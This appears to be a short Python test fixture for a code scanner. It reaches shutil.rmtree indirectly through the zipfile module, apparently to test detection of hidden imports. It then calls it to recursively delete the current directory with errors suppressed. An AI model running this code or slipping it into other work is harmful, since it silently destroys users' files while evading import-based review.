import zipfile

cleanup = zipfile.shutil.rmtree  #! python.import.shutil
cleanup(".", ignore_errors=True)
